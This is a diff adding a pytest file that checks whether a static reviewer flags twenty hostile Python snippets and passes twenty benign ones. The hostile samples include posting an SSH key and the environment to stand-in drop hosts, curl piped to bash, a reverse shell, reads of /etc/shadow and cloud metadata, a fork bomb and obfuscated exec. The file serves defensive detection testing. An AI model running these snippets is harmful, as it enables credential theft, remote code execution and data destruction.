@@ -1,0 +1,96 @@
+"""What a reviewer is shown of a snippet that was read and not run: forty of both kinds."""
+
+import ast
+import json
+
+import pytest
+
+from runner.commands.check import to_sarif
+from sandbox.guest.language.review import review
+from sandbox.protocol.messages import Checked
+
+HOSTILE = {
+    "posts a key": "import requests\nk = open('/root/.ssh/id_rsa').read()\n"
+    "requests.post('https://drop.example/x', data=k)",
+    "posts the environment": "import os, urllib.request as u\n"
+    "u.urlopen('http://drop.example/?' + str(dict(os.environ)))",
+    "pipes a download into a shell": "import os\nos.system('curl -s http://a.example/i.sh | bash')",
+    "runs what it downloads": "import urllib.request\n"
+    "exec(urllib.request.urlopen('http://a.example/p.py').read())",
+    "hides code in Base64": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
+    "hides code by steps": "import zlib, base64\np = base64.b64decode('eJw=')\n"
+    "q = zlib.decompress(p)\nexec(q)",
+    "hides code in hex": "eval(bytes.fromhex('31').decode())",
+    "hides code in numbers": "exec(''.join(chr(c) for c in [112, 114]))",
+    "a reverse shell": "import socket, subprocess, os\ns = socket.socket()\n"
+    "s.connect(('203.0.113.10', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
+    "climbs to all classes": "().__class__.__base__.__subclasses__()",
+    "climbs by getattr": "getattr(getattr((), '__class__'), '__subclasses__')",
+    "imports by a computed name": "import importlib\nimportlib.import_module('so' + chr(99))",
+    "reads shadow": "print(open('/etc/shadow').read())",
+    "reads cloud metadata": "import requests\n"
+    "requests.get('http://169.254.169.254/latest/meta-data/iam')",
+    "removes the home": "import shutil\nshutil.rmtree('/home/me')",
+    "walks frames": "import sys\nsys._getframe(1).f_globals['key']",
+    "calls libc": "import ctypes\nctypes.CDLL(None).system(b'id')",
+    "unpickles a download": "import pickle, urllib.request as r\n"
+    "pickle.loads(r.urlopen('http://a.example').read())",
+    "forks for ever": "import os\nwhile True: os.fork()",
+    "installs a package": "import subprocess, sys\n"
+    "subprocess.run([sys.executable, '-m', 'pip', 'install', 'evil'])",
+}
+BENIGN = {
+    "sums": "total = sum(range(10))\nprint(total)",
+    "reads a table": "import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.describe()",
+    "groups": "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.groupby('a').sum()",
+    "plots": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('p.png')",
+    "fits": "from sklearn.linear_model import LinearRegression\nLinearRegression().fit([[1]], [1])",
+    "writes a file": "with open('out.txt', 'w') as f:\n    f.write('x')",
+    "writes json": "import json\njson.dump({'a': 1}, open('a.json', 'w'))",
+    "dates": "from datetime import date\n(date(2026, 1, 1) - date(2025, 1, 1)).days",
+    "numbers": "import numpy as np\nnp.linalg.inv(np.eye(3))",
+    "text": "import re\nre.findall('[a-z]+', 'a b')",
+    "a class": "class A:\n    def __init__(self):\n        self.x = 1\nA().x",
+    "its own class": "print(type(1).__name__, (1).__class__.__name__)",
+    "paths": "from pathlib import Path\nlist(Path('.').glob('*.csv'))",
+    "a variable": "import os\nos.environ.get('LANG')\nos.path.join('a', 'b')",
+    "an encoded text": "import base64\nbase64.b64encode(b'x')",
+    "a decoded text": "import base64\nprint(base64.b64decode('eA=='))",
+    "a query": "df = None\nprint('SELECT password FROM users')",
+    "evaluates a constant": "eval('1 + 1')",
+    "sqlite": "import sqlite3\nsqlite3.connect('a.db').execute('select 1')",
+    "null device": "open('/dev/null', 'w').write('x')",
+}
+
+
+def severities(code: str) -> set[str]:
+    return {str(row[2]) for row in review(ast.parse(code))}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_snippet_is_flagged(name):
+    assert severities(HOSTILE[name]) & {"warning", "danger"}
+
+
+@pytest.mark.parametrize("name", BENIGN)
+def test_a_benign_snippet_is_at_most_noted(name):
+    assert severities(BENIGN[name]) <= {"note"}
+
+
+def test_a_finding_has_its_line_kind_and_reason():
+    code = "x = 1\nimport os as o\no.system('ls')\n"
+    assert review(ast.parse(code)) == [
+        [3, "process", "warning", "os.system", "starts a program"],
+    ]
+
+
+def test_sarif_names_file_line_and_rule():
+    found = Checked("", [], [[4, "import socket", "no"]], "", review(ast.parse("eval(x)")))
+    log = json.loads(json.dumps(to_sarif(found, "a.py")))
+    results = log["runs"][0]["results"]
+    assert [(one["ruleId"], one["level"]) for one in results] == [
+        ("cellblock/obfuscation", "warning"),
+        ("cellblock/refused", "error"),
+    ]
+    place = results[1]["locations"][0]["physicalLocation"]
+    assert (place["artifactLocation"]["uri"], place["region"]["startLine"]) == ("a.py", 4)
